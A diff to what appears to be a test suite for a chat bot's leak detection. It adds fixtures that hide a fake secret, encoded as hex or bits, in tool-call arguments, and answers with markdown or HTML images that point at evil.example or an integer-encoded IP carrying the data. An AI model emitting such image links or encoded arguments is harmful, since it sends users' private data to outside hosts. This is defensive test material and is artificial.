@@ -25,6 +25,7 @@ from bot.bus import Attachment
 STOLEN = "My sister lives in Zanzibar"
 B64 = base64.b64encode(STOLEN.encode()).decode()
 HEX = STOLEN.encode().hex()
+BITS = f"{int(HEX, 16):0216b}"
 EVIL = "http://evil.example:{port}"
 LEAK = f"{EVIL}/leak?d={HEX}"
 HITS = f"x\n1. a\n   {LEAK}\n   words"
@@ -148,9 +149,9 @@ ARGUMENTS: dict[str, dict[str, Any]] = {
     "a list": {"text": list(STOLEN)},
     "spaces": {"text": " \t \t\t "},
     "capitals of said words": {"text": "hElLo"},
-    "a list of truths": {"form": {"a": [sign == "1" for sign in f"{int(HEX, 16):b}"]}},
-    "a list of nothing": {"text": [None if sign == "1" else "" for sign in f"{int(HEX, 16):b}"]},
-    "a list of empty lists": {"to": [[] if sign == "1" else {} for sign in f"{int(HEX, 16):b}"]},
+    "a list of truths": {"form": {"a": [sign == "1" for sign in BITS]}},
+    "a list of nothing": {"text": [None if sign == "1" else "" for sign in BITS]},
+    "a list of empty lists": {"to": [[] if sign == "1" else {} for sign in BITS]},
     "a few truths": {"text": [True, False]},
     "a list of empty lists in a list": {"text": [[[], [], [], []]]},
     "said words as an alphabet": {"text": [WORDS[int(sign, 16)] for sign in HEX]},
@@ -158,6 +159,10 @@ ARGUMENTS: dict[str, dict[str, Any]] = {
     "a said word again": {"text": ["Read", "Read"]},
     "said words as names": {"Read": True, "now": False},
     "a wrong choice": {"kind": "evil.example"},
+    "many choices": {"digits": {f"c{at}": sign for at, sign in enumerate(HEX)}},
+    "many truths": {"marks": {f"c{at}": sign == "1" for at, sign in enumerate(BITS)}},
+    "many fields": {"marks": {f"c{at}": None for at, sign in enumerate(BITS) if sign == "1"}},
+    "many said words": {"words": {f"c{at}": WORDS[int(sign, 16)] for at, sign in enumerate(HEX)}},
 }
 ANSWERS = {
     "an image": f"![x]({LEAK})",
@@ -211,6 +216,11 @@ ROUTES = (
         for name, given in ARGUMENTS.items()
     }
     | {f"an answer: {name}": Route(answer=text) for name, text in ANSWERS.items()}
+    | {
+        "an answer: a tag whose name was said": Route(
+            answer=f"<img\nsrc=/\\2130706433/{HEX}>", said="Make the img smaller"
+        )
+    }
 )
 
 
